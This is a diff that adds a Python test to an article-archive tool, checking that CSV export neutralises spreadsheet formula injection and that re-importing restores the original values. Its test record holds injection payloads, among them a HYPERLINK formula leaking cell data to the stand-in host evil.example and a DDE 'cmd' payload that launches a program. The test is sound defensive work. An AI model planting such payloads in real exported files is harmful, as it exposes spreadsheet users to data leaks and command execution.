@@ -253,6 +253,32 @@ def test_an_export_added_again_is_the_same_article_each_time(tmp_path, form):
         assert again["metadata"].keys() - first["metadata"].keys() <= {"source_file", "sha256", "removed"}
 
 
+RISKY = {
+    "id": "=7",
+    "title": '=HYPERLINK("http://evil.example"&A1)',
+    "author": "'@SUM(1)",
+    "site": "+waha.example",
+    "text": "-2+3+cmd|' /C calc'!A0\nوتفتح السوق أبوابها يوم الخميس.",
+    "edition": "=3",
+}
+
+
+def test_a_table_runs_nothing_and_is_read_back_as_it_was(tmp_path):
+    (tmp_path / "a.jsonl").write_text(json.dumps(RISKY), encoding="utf-8")
+    run(tmp_path / "0", "add", "--as-is", str(tmp_path / "a.jsonl"))
+    table = tmp_path / "a.csv"
+    run(tmp_path / "0", "export", "--format", "csv", "--output", str(table))
+    (row,) = csv.DictReader(io.StringIO(table.read_text("utf-8"), newline=""))
+    assert {name: row[name] for name in RISKY if name != "edition"} == {
+        name: "'" + text for name, text in RISKY.items() if name != "edition"
+    }
+    run(tmp_path / "1", "add", "--as-is", str(table))
+    before, after = (json.loads(run(tmp_path / name, "show", "=7", "--json").stdout) for name in "01")
+    for name in ("id", "title", "author", "site", "paragraphs", "language"):
+        assert before[name] == after[name], name
+    assert after["metadata"]["edition"] == "=3"
+
+
 def test_export_for_excel_begins_with_a_byte_order_mark(archive, tmp_path):
     path = tmp_path / "out.csv"
     run(archive, "export", "--format", "csv", "--bom", "--output", str(path))
